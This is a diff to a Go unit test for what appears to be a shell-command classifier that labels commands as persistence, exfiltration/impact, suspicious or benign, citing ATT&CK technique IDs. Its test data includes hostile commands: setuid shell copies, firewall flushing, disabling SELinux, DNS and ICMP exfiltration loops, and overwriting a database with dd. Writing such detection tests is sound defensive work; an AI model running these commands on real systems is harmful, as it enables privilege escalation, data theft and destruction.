@@ -53,7 +53,21 @@ func TestClassify(t *testing.T) {
 		{"setcap cap_setuid+ep /usr/local/bin/python3-backup", classPersistence}, // like a setuid copy
 		{"echo 'sh /tmp/.b' | at now + 1 minute", classPersistence},
 		{"cp x.conf /etc/logrotate.d/shop", classPersistence},
-		{"getcap -r /usr/bin", classNone}, // reading capabilities changes nothing
+		{"getcap -r /usr/bin", classSuspicious}, // a search for a way to root (a cap_setuid copy), changes nothing
+		{"getcap /usr/bin/ping", classNone},
+		{"iptables -F; iptables -X", classExfilImpact},                  // defenses off: with the damage (T1562.004)
+		{"iptables -L -n", classNone},                                   // a look
+		{"setenforce 0", classExfilImpact},                              // T1562.001
+		{"chattr +i /etc/cron.d/sync", classExfilImpact},                // made undeletable (T1222.002)
+		{"lsattr /etc/cron.d/sync", classNone},                          // a look
+		{"ping -c 1 -p 726f6f74 127.0.0.1", classExfilImpact},           // data in ICMP payloads
+		{"ping -c 1 127.0.0.1", classNone},                              // a ping
+		{"cd /tmp/.s && python3 -m http.server 8000", classExfilImpact}, // files offered to a fetcher
+		{"tar czf - /var/www | ssh u@127.0.0.1 'cat > /tmp/w.tgz'", classExfilImpact},
+		{"for c in $(base32 -w 30 /tmp/d); do nslookup $c.x.lab 127.0.0.1; done", classExfilImpact},
+		{"dd if=/dev/zero of=/var/lib/shop/shop.db bs=1M count=4 conv=notrunc", classExfilImpact},
+		{"dd if=/dev/zero of=/tmp/x bs=1k count=1", classSuspicious}, // scratch in a temp dir, nothing destroyed
+		{"pkill -F /run/nginx.pid", classExfilImpact},                // a service taken down (T1489)     // one file asked about
 		{"cat /etc/update-motd.d/10-uname", classNone},
 		{"cp /bin/bash /tmp/.b; chmod u+s /tmp/.b", classPersistence}, // a setuid shell: a way back in as its owner
 		{"chmod 4755 /var/tmp/.x", classPersistence},
